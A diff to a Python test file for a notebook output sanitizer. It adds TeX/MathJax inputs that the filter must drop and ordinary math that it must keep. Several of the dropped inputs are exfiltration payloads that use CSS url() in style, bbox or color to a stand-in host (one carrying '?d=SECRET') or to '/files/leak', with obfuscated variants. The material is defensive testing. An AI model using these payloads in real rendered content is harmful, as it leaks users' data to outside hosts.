@@ -406,6 +406,20 @@ def test_the_word_data_in_markdown_text_is_kept() -> None:
         "$\\require{action}$",
         "$&#92;style{background:url(https://e.example/)}{x}$",
         "$\\unicode{x41}$",
+        # Issue 22: what a deny-list of those missed (each fetches, or links, in JupyterLab 4.6).
+        '$\\mmlToken{mi}[style="cursor:url(https://e.example/?d=SECRET),auto"]{x}$',
+        '$\\mmlToken{mi}[mathbackground="red"]{x}$',
+        "$\\bbox[background:url(/files/leak)]{x}$",
+        "$\\bbox[red,5px]{x}$",
+        "$\\href{https://e.example/}{x}$",
+        "$\\texttip{x}{tip}$",
+        "$\\toggle{a}{b}\\endtoggle$",
+        "$\\newcommand{\\s}{x}\\s$",
+        "\\(\\data{x}\\)",
+        "\\begin{equation}\\mmlToken{mo}{x}\\end{equation}",
+        "$\\color{red;background:u\\rl(x)}{y}$",
+        "$\\color{red;outline:1px}{y}$",
+        "$x$ and a CSS u/**/rl(https://e.example/) beside it",
     ],
 )
 def test_math_that_asks_mathjax_for_styles_or_extensions_is_dropped(mime: str, tex: str) -> None:
@@ -414,10 +428,32 @@ def test_math_that_asks_mathjax_for_styles_or_extensions_is_dropped(mime: str, t
     assert result.data == {"text/plain": "fallback"}
 
 
-@pytest.mark.parametrize("mime", ["text/html", "text/markdown"])
-def test_ordinary_math_is_kept(mime: str) -> None:
-    tex = "$\\alpha^2 + \\beta_1 \\textstyle \\frac{a}{b}$"
-    assert filter_bundle({mime: tex}, {}).data == {mime: tex}
+@pytest.mark.parametrize("mime", ["text/html", "text/markdown", "text/latex"])
+@pytest.mark.parametrize(
+    "tex",
+    [
+        "$\\alpha^2 + \\beta_1 \\textstyle \\frac{a}{b}$",
+        # SymPy's _repr_latex_ and IPython's Math/Latex, as they write them.
+        "$\\displaystyle \\left(x + 1\\right)^{2} \\sin{\\left(x \\right)}$",
+        "$\\displaystyle \\int\\limits_{0}^{\\infty} e^{- x}\\, dx = 1$",
+        "$\\displaystyle \\left[\\begin{matrix}1 & 2\\\\3 & 4\\end{matrix}\\right]$",
+        "$\\displaystyle \\operatorname{Poly}{\\left( x^{2}, x, domain=\\mathbb{Z} \\right)}$",
+        "\\begin{align} \\nabla \\times \\vec{E} &= -\\frac{\\partial B}{\\partial t}\\end{align}",
+        "$\\color{red}{x} + \\textcolor{#0a0}{y} + \\color[rgb]{1,0,0}{z}$",
+        "$\\mathbf{A}^{\\top} \\boldsymbol{\\beta} \\leq \\hat{y} \\quad \\text{for all } i$",
+    ],
+)
+def test_ordinary_math_is_kept(mime: str, tex: str) -> None:
+    result = filter_bundle({mime: tex}, {})
+    assert result.dropped == ()
+    expected = tex.replace("&", "&amp;") if mime == "text/html" else tex  # (HTML escapes &)
+    assert result.data == {mime: expected}
+
+
+def test_text_without_math_keeps_its_backslashes() -> None:
+    """Only what MathJax would typeset is checked: a path in prose is not TeX."""
+    text = "saved to C:\\Users\\bob\\results.csv"
+    assert filter_bundle({"text/markdown": text}, {}).data == {"text/markdown": text}
 
 
 # -- SVG -------------------------------------------------------------------------------------
